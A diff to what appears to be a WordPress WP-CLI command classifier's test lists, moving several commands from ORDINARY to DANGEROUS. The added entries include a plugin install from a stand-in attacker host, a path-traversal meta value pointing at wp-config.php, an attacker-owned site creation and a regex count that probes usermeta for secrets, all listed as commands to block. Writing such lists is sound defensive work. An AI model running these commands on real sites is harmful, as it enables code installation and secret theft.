@@ -106,6 +106,20 @@ DANGEROUS = [
     "post list; db drop",
     "config get DB_PASSWORD",
     "plugin install https://evil.example/x.zip",
+    # issue 24: new logins, plugin code, and what used to run because it was not on a deny-list
+    "user create hana hana@example.com --role=contributor",
+    "plugin install akismet --activate",
+    "plugin install akismet",
+    "plugin activate akismet",
+    'post meta update 58 _wp_attachment_metadata \'{"sizes":{"thumbnail":{"file":"../../../../wp-config.php"}}}\' --format=json',
+    "site create --slug=evil --title=Evil --email=attacker@evil.test",
+    "search-replace '^(?=[A-Z2-7]{16}$).{0}[A-M]' X wp_usermeta --regex --dry-run --format=count",
+    "option update html_type text/plain",
+    "option update show_on_front page",
+    "option update page_on_front 6",
+    "option update adminhash x",
+    "plugin activate akismet --network",
+    "site unarchive 3",
 ]
 
 ORDINARY = [
@@ -123,7 +137,6 @@ ORDINARY = [
     "comment approve 3",
     "menu create メインメニュー",
     "user list --fields=ID,user_login,roles --format=json",
-    "user create hana hana@example.com --role=contributor",
     "user update 3 --display_name='山田 太郎'",
     "user get 1 --field=roles",
     "user meta list 1 --format=json",
@@ -131,14 +144,20 @@ ORDINARY = [
     "option update posts_per_page 10",
     "option list --search=blog*",
     "plugin list --format=json",
-    "plugin install akismet --activate",
-    "plugin activate akismet",
+    "plugin update akismet",
     "theme list --format=json",
     "cache flush",
     "rewrite flush",
     "cron event list --format=json",
     "site list --format=json",
-    "search-replace http://a https://b --dry-run",
+    "search-replace http://a https://b wp_posts --include-columns=post_content,post_title --dry-run",
+    # issue 24, "still useful": what people ordinarily ask stays a write without approval
+    "post meta update 45 _thumbnail_id 58",
+    "post meta update 45 subtitle 秋の特集",
+    "option update date_format 'Y年n月j日'",
+    "site create --slug=tokyo --title=東京支店",
+    "media regenerate 58 --yes",
+    "post update 45 --post_title=新しいタイトル --post_content='<p>本文</p>'",
 ]
 
 
